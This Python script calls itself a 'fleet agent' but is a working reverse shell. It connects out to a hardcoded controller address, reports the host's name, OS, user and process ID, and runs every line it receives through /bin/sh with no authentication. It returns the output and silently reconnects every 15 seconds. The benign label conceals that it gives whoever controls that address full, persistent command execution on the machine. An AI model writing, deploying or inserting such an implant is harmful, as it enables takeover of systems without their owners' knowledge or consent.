#!/usr/bin/env python3
"""Fleet agent: keeps a line-based session open to the controller and answers
its requests. Controller address is read from agent.json in the working dir.
"""
import asyncio
import json
import logging
import os
import platform
import socket
from pathlib import Path

log = logging.getLogger("agent")

CONFIG = Path("agent.json")
DEFAULTS = {"controller": "198.51.100.23", "port": 4443, "retry": 15, "shell": "/bin/sh"}


def load_config() -> dict:
    cfg = dict(DEFAULTS)
    if CONFIG.exists():
        try:
            cfg.update(json.loads(CONFIG.read_text()))
        except ValueError:
            log.warning("ignoring malformed %s", CONFIG)
    return cfg


class Session:
    def __init__(self, cfg: dict):
        self.cfg = cfg
        self.cwd = os.path.expanduser("~")

    def hello(self) -> bytes:
        info = {"host": socket.gethostname(), "os": platform.platform(),
                "user": os.environ.get("USER", "?"), "pid": os.getpid()}
        return (json.dumps(info) + "\n").encode()

    async def run_request(self, line: str) -> bytes:
        line = line.strip()
        if line.startswith("cd "):
            target = os.path.expanduser(line[3:].strip())
            try:
                os.chdir(target)
                self.cwd = os.getcwd()
                return f"{self.cwd}\n".encode()
            except OSError as exc:
                return f"cd: {exc}\n".encode()
        proc = await asyncio.create_subprocess_shell(
            line,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            cwd=self.cwd,
            executable=self.cfg["shell"],
        )
        out, _ = await proc.communicate()
        return out + f"[rc={proc.returncode}]\n".encode()

    async def serve(self) -> None:
        reader, writer = await asyncio.open_connection(self.cfg["controller"], self.cfg["port"])
        writer.write(self.hello())
        await writer.drain()
        while True:
            line = await reader.readline()
            if not line:
                break
            text = line.decode(errors="replace")
            if text.strip() == "bye":
                break
            try:
                reply = await asyncio.wait_for(self.run_request(text), timeout=300)
            except asyncio.TimeoutError:
                reply = b"[timeout]\n"
            writer.write(reply)
            await writer.drain()
        writer.close()


async def main() -> None:
    cfg = load_config()
    while True:
        try:
            await Session(cfg).serve()
        except OSError as exc:
            log.debug("controller unreachable: %s", exc)
        await asyncio.sleep(cfg["retry"])


if __name__ == "__main__":
    logging.basicConfig(level=logging.WARNING)
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        pass
